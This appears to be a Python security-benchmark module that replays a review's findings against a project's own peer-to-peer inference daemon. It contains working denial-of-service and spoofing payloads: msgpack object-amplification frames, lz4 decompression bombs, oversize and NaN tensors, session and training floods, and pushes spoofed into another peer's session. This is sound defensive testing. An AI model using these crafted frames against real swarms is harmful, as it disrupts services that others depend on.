"""The attacks of `peerd bench attack`, one per finding of the security review (and the older
ones: malformed frames, oversize tensors, session floods), each crafted by hand on real libp2p
streams. An attack returns what the daemon answered (`detail`); peerd.bench.attack measures
what it did to the swarm.
"""

from __future__ import annotations

import functools
import math
import random
import struct
import time
from typing import TYPE_CHECKING, Any

import lz4.block
import torch
import trio

import wire
from peerd.bench.attack import AttackSpec, Rig
from peerd.bench.attack_peers import (
    FAKE_PATIENCE_S,
    HOSTILE_MODES,
    crafted,
    fake_server,
    open_session,
    outcome,
    raw_stream,
    write_raw,
)
from peerd.node.p2p import INFERENCE_PROTOCOL, INFO_PROTOCOL, PUSH_PROTOCOL, TRAINING_PROTOCOL
from peerd.node.streams import MessageStream

if TYPE_CHECKING:
    from peerd.node.p2p import Node

# The review's object-amplification frame: 16 MiB of empty maps in nested arrays.
AMPLIFICATION_BYTES = 16 << 20
AMPLIFICATION_FRAMES = 3
# The review's lz4 inflation: three tensors of ~255 MiB each from a ~3 MiB frame, five times.
INFLATED_TOKENS = 116_000  # x 576 x 4 bytes = 255 MiB
INFLATION_FRAMES = 5
NOT_ROUTED = "no honest route went through the fake server: nothing tested"
HOG_TOKENS = 8192
FLOOD_TOKENS = 4096
FLOOD_STREAMS_PER_PEER = 4
FLOOD_SESSIONS_PER_PEER = 80
SILENT_STREAMS = 40


def _s0(rig: Rig) -> Any:
    return rig.daemons["s0"]


async def _step_outcomes(rig: Rig, hiddens: list[torch.Tensor]) -> list[str]:
    """Each hidden state as the first step of a fresh session on s0: what came back."""
    replies = []
    for hidden in hiddens:
        stream, session_id, opened = await open_session(rig.attackers[0], _s0(rig), rig)
        if opened != "session_opened":
            replies.append(f"open: {opened}")
        else:
            step = crafted("step", session_id=session_id, step_id=0, hidden_states=hidden)
            await write_raw(stream, step)
            replies.append(await outcome(stream))
        await stream.close()
    return replies


async def _training_outcomes(rig: Rig, requests: list[bytes]) -> list[str]:
    """Each request on a fresh training stream of s0 (a refused one may end its stream)."""
    replies = []
    for request in requests:
        stream = await raw_stream(rig.attackers[0], _s0(rig), TRAINING_PROTOCOL)
        await write_raw(stream, request)
        replies.append(await outcome(stream))
        await stream.close()
    return replies


def _forward(rig: Rig, hidden: torch.Tensor) -> bytes:
    return crafted("forward", model=rig.model, start=0, end=10, hidden_states=hidden)


async def zero_size_step(rig: Rig) -> dict[str, Any]:
    h = rig.hidden_size
    return {"replies": await _step_outcomes(rig, [torch.zeros(1, 0, h), torch.zeros(1, 0, 0)])}


async def zero_size_forward(rig: Rig) -> dict[str, Any]:
    h = rig.hidden_size
    requests = [_forward(rig, torch.zeros(0, 4, h)), _forward(rig, torch.zeros(1, 0, h))]
    return {"replies": await _training_outcomes(rig, requests)}


async def zero_size_backward(rig: Rig) -> dict[str, Any]:
    empty = torch.zeros(1, 0, rig.hidden_size)
    backward = crafted(
        "backward", model=rig.model, start=0, end=10, hidden_states=empty, grad_outputs=empty
    )
    return {"replies": await _training_outcomes(rig, [backward])}


async def nan_hidden(rig: Rig) -> dict[str, Any]:
    h = rig.hidden_size
    nan, inf = torch.full((1, 2, h), math.nan), torch.full((1, 2, h), math.inf)
    steps = await _step_outcomes(rig, [nan, inf])
    return {"steps": steps, "forward": await _training_outcomes(rig, [_forward(rig, nan)])}


def amplification_frame(size: int) -> bytes:
    """An info_request whose body holds `size` bytes of empty maps (0x80, one object per byte)
    in arrays of 2^16: the decoder makes ~16 million dicts of a 16 MiB frame."""
    per_array = 1 << 16
    arrays = size // per_array
    inner = b"\xdd" + struct.pack(">I", per_array) + b"\x80" * per_array
    padding = b"\xdd" + struct.pack(">I", arrays) + inner * arrays
    body = b"\x83\xa8protocol\x01\xa4type\xacinfo_request\xa4body\x81\xa3pad" + padding
    return struct.pack(">I", len(body)) + body


async def object_amplification(rig: Rig) -> dict[str, Any]:
    frame = amplification_frame(AMPLIFICATION_BYTES)
    replies = []
    for _ in range(AMPLIFICATION_FRAMES):
        stream = await raw_stream(rig.attackers[0], _s0(rig), INFO_PROTOCOL)
        await write_raw(stream, frame)
        replies.append(await outcome(stream, 60))
        await stream.close()
    return {"frame_mib": len(frame) >> 20, "replies": replies}


@functools.cache
def inflating_tensor(tokens: int, width: int, ndim: int = 3) -> dict[str, Any]:
    """An lz4 tensor of zeros: ~1 MiB on the wire, tokens x width x 4 bytes decoded."""
    raw = bytes(tokens * width * 4)
    shape = [1] * (ndim - 2) + [tokens, width]
    data = lz4.block.compress(raw, store_size=False)
    return {"dtype": "float32", "shape": shape, "codec": "raw", "lz4": True, "data": data}


async def lz4_inflation(rig: Rig) -> dict[str, Any]:
    h = rig.hidden_size
    hidden = await trio.to_thread.run_sync(inflating_tensor, INFLATED_TOKENS, h)
    prompts = await trio.to_thread.run_sync(inflating_tensor, INFLATED_TOKENS, h, 4)
    body = {
        "model": rig.model,
        "start": 0,
        "end": 10,
        "hidden_states": hidden,
        "grad_outputs": hidden,
        "prompts": prompts,
    }
    frame = wire.encode_frame({"protocol": 1, "type": "backward", "body": body})
    replies = []
    for number in range(INFLATION_FRAMES):
        # Any protocol decodes any message type before it checks the type: alternate.
        protocol = (TRAINING_PROTOCOL, INFO_PROTOCOL)[number % 2]
        stream = await raw_stream(rig.attackers[0], _s0(rig), protocol)
        await write_raw(stream, frame)
        replies.append(await outcome(stream, 60))
        await stream.close()
    return {"frame_mib": round(len(frame) / 2**20, 1), "replies": replies}


async def cache_hog(rig: Rig) -> dict[str, Any]:
    """Two peers take HOG_TOKENS of s0's cache each and never step, for the attack's time and
    until an honest generation started after them is done."""
    assert rig.honest is not None
    opened, streams = [], []
    for node in rig.attackers[:2]:
        stream, _, reply = await open_session(node, _s0(rig), rig, max_length=HOG_TOKENS)
        opened.append(reply)
        streams.append(stream)
    held_since = trio.current_time()
    await rig.honest.first_started_after(time.monotonic(), 90.0)
    await trio.sleep_until(held_since + rig.attack_s)
    for stream in streams:
        await stream.close()
    return {"opened": opened, "held_s": round(trio.current_time() - held_since, 1)}


async def push_spoof(rig: Rig) -> dict[str, Any]:
    """A stranger pushes steps into an honest peer's session on s1 (whose upstream is s0, as a
    client names it), start_position 0, in a burst; the honest peer's next step must come back
    right and alone."""
    assert rig.victim is not None
    s1 = rig.daemons["s1"]
    rng = torch.Generator().manual_seed(7)
    inputs = [torch.randn(1, 1, rig.hidden_size, generator=rng) for _ in range(3)]
    upstream = {"upstream": _s0(rig).peer_id}
    reference = await _session_outputs(rig.victim, s1, rig, inputs, upstream)
    stream, session_id, opened = await open_session(rig.victim, s1, rig, **upstream)
    assert opened == "session_opened", opened
    for step_id, hidden in enumerate(inputs[:2]):
        await stream.send(wire.Step(session_id=session_id, step_id=step_id, hidden_states=hidden))
        await stream.receive_as(wire.StepResult, 60)
    pusher = await raw_stream(rig.attackers[0], s1, PUSH_PROTOCOL)
    sent = 0
    for step_id in range(2, 22):
        spoof = torch.randn(1, 4, rig.hidden_size, generator=rng)
        step = wire.Step(
            session_id=session_id, step_id=step_id, hidden_states=spoof, start_position=0
        )
        try:
            await pusher.send(step)
            sent += 1
        except Exception:  # the server closed the push stream: it refused us
            break
    await trio.sleep(1.0)
    await stream.send(wire.Step(session_id=session_id, step_id=2, hidden_states=inputs[2]))
    reply = await stream.receive(60)
    ok = isinstance(reply, wire.StepResult) and reply.step_id == 2
    if ok:
        assert isinstance(reply, wire.StepResult)
        want = reference[2]
        ok = bool(torch.allclose(reply.hidden_states, want, atol=1e-4 * float(want.abs().max())))
    await stream.close()
    return {"spoofed_pushes_sent": sent, "victim_saw": type(reply).TYPE, "victim_ok": ok}


async def _session_outputs(
    node: Node, daemon: Any, rig: Rig, inputs: list[torch.Tensor], fields: dict[str, Any]
) -> list[torch.Tensor]:
    stream, session_id, opened = await open_session(node, daemon, rig, **fields)
    assert opened == "session_opened", opened
    outputs = []
    for step_id, hidden in enumerate(inputs):
        await stream.send(wire.Step(session_id=session_id, step_id=step_id, hidden_states=hidden))
        outputs.append((await stream.receive_as(wire.StepResult, 60)).hidden_states)
    await stream.close()
    return outputs


async def training_flood(rig: Rig) -> dict[str, Any]:
    """Back-to-back lz4 Forwards of FLOOD_TOKENS zeros (~36 KiB each) on several streams from two
    peers, for the attack's time."""
    hidden = torch.zeros(1, FLOOD_TOKENS, rig.hidden_size)
    request = wire.Forward(model=rig.model, start=0, end=10, hidden_states=hidden)
    frame = bytes(wire.encode_message(request, "raw+lz4"))
    counts: dict[str, int] = {}

    async def flood(node: Node) -> None:
        stream = await raw_stream(node, _s0(rig), TRAINING_PROTOCOL)
        try:
            while True:
                await write_raw(stream, frame)
                reply = await outcome(stream, 120)
                counts[reply] = counts.get(reply, 0) + 1
                if reply in ("closed", "garbled", "silent"):
                    stream = await raw_stream(node, _s0(rig), TRAINING_PROTOCOL)
        finally:
            with trio.CancelScope(shield=True):
                await stream.close()

    with trio.move_on_after(rig.attack_s):
        async with trio.open_nursery() as nursery:
            for node in rig.attackers[:2]:
                for _ in range(FLOOD_STREAMS_PER_PEER):
                    nursery.start_soon(flood, node)
    return {"request_kib": len(frame) >> 10, "replies": counts}


async def _through_fake(rig: Rig, mode: str) -> dict[str, Any]:
    """A fake server of blocks 0:10 for the attack's time (and until it saw a step, within
    60 s): how many honest sessions it got, and what the honest client made of it."""
    assert rig.honest is not None
    async with fake_server(rig, mode) as fake:
        started = time.monotonic()
        with trio.move_on_after(max(FAKE_PATIENCE_S, rig.attack_s)):
            # Until it was used (twice for the lie: one session may be a route's first try).
            while (
                fake.sessions < (2 if mode == "relay" else 1)
                or fake.steps == 0
                or (time.monotonic() - started < rig.attack_s)
            ):
                await trio.sleep(0.1)
        ended = time.monotonic()
    # Each honest generation opens one session on blocks 0:10 (more when it fails over).
    generations = [g for g in rig.honest.done if g.end >= started and g.start <= ended]
    detail: dict[str, Any] = {"fake_sessions": fake.sessions, "fake_steps": fake.steps}
    detail["honest_generations_meanwhile"] = len(generations)
    if mode == "relay":
        detail["route_share"] = round(min(1.0, fake.sessions / max(1, len(generations))), 2)
    if fake.errors:
        detail["fake_errors"] = fake.errors[:3]
    if fake.sessions == 0:
        detail["attack_error"] = NOT_ROUTED
    return detail


async def malformed_frames(rig: Rig) -> dict[str, Any]:
    rng = random.Random(17)
    good = bytes(wire.encode_message(wire.InfoRequest()))
    deep = b"\x91" * 40 + b"\x80"  # arrays 40 deep, as the body of an info_request
    envelope = b"\x83\xa8protocol\x01\xa4type\xacinfo_request\xa4body"
    payloads: dict[str, bytes | memoryview] = {
        "4 GiB length": b"\xff\xff\xff\xff" + bytes(64),
        "random bytes": bytes(rng.randrange(256) for _ in range(200)),
        "not a map": struct.pack(">I", 3) + b"\x93\x01\x02",
        "unknown type": wire.encode_frame({"protocol": 1, "type": "nonsense", "body": {}}),
        "future protocol": wire.encode_frame({"protocol": 99, "type": "info_request", "body": {}}),
        "40 deep": struct.pack(">I", len(envelope) + len(deep)) + envelope + deep,
        "truncated": good[: len(good) - 2],
    }
    replies: dict[str, str] = {}
    protocols = (INFO_PROTOCOL, INFERENCE_PROTOCOL, PUSH_PROTOCOL, TRAINING_PROTOCOL)
    for protocol in protocols:
        for name, data in payloads.items():
            stream = await raw_stream(rig.attackers[0], _s0(rig), protocol)
            await write_raw(stream, data)
            if name == "truncated":
                await stream.stream.close()
            reply = await outcome(stream, 15)
            replies[f"{protocol.split('/')[2]}: {name}"] = reply
            await stream.close()
    return {"replies": replies}


async def oversize_tensors(rig: Rig) -> dict[str, Any]:
    h = rig.hidden_size
    huge: dict[str, Any] = {"dtype": "float32", "shape": [1 << 20, 1 << 20, h], "codec": "raw"}
    huge |= {"lz4": False, "data": b"\x00" * 16}
    body = {"model": rig.model, "start": 0, "end": 10, "hidden_states": huge}
    frame = wire.encode_frame({"protocol": 1, "type": "forward", "body": body})
    stream = await raw_stream(rig.attackers[0], _s0(rig), TRAINING_PROTOCOL)
    await write_raw(stream, frame)
    replies = {"tensor of 2^40 x 576 floats": await outcome(stream)}
    await stream.close()
    long_step = await _step_outcomes(rig, [torch.zeros(1, 10_000, h)])
    replies["step of 10000 tokens in a 64-token session"] = long_step[0]
    over = _forward(rig, torch.zeros(1, 9000, h))
    replies["forward of 9000 tokens"] = (await _training_outcomes(rig, [over]))[0]
    for name, fields in {
        "session of 2^20 tokens": {"max_length": 1 << 20},
        "batch of 1024": {"batch_size": 1024},
    }.items():
        stream, _, reply = await open_session(rig.attackers[0], _s0(rig), rig, **fields)
        replies[name] = reply
        await stream.close()
    return {"replies": replies}


async def session_flood(rig: Rig) -> dict[str, Any]:
    """Two peers open FLOOD_SESSIONS_PER_PEER small sessions each, plus streams that never say
    anything, and hold them all for the attack's time."""
    counts: dict[str, int] = {}
    streams: list[MessageStream] = []

    async def one(node: Node) -> None:
        stream, _, reply = await open_session(node, _s0(rig), rig, max_length=16)
        counts[reply] = counts.get(reply, 0) + 1
        streams.append(stream)

    async def silent(node: Node) -> None:
        streams.append(await raw_stream(node, _s0(rig), INFERENCE_PROTOCOL))

    async with trio.open_nursery() as nursery:
        for node in rig.attackers[:2]:
            for _ in range(FLOOD_SESSIONS_PER_PEER):
                nursery.start_soon(one, node)
            for _ in range(SILENT_STREAMS // 2):
                nursery.start_soon(silent, node)
    await trio.sleep(rig.attack_s)
    for stream in streams:
        await stream.close()
    return {"sessions": counts, "silent_streams": SILENT_STREAMS}


def _fake(mode: str) -> Any:
    async def attack(rig: Rig) -> dict[str, Any]:
        return await _through_fake(rig, mode)

    return attack


CATALOGUE = [
    AttackSpec("zero_size_step", "s0", zero_size_step),
    AttackSpec("zero_size_forward", "s0", zero_size_forward),
    AttackSpec("zero_size_backward", "s0", zero_size_backward),
    *(AttackSpec(f"hostile_reply_{mode}", "s2", _fake(mode)) for mode in HOSTILE_MODES),
    AttackSpec("object_amplification", "s0", object_amplification),
    AttackSpec("lz4_inflation", "s0", lz4_inflation),
    AttackSpec("cache_hog", "s0", cache_hog),
    AttackSpec("push_spoof", "s1", push_spoof),
    AttackSpec("training_flood", "s0", training_flood),
    AttackSpec("throughput_lie", "s2", _fake("relay")),
    AttackSpec("nan_hidden", "s0", nan_hidden),
    AttackSpec("malformed_frames", "s0", malformed_frames),
    AttackSpec("oversize_tensors", "s0", oversize_tensors),
    AttackSpec("session_flood", "s0", session_flood),
]
"""Every attack, in the order they run: the review's findings, then the older ones."""
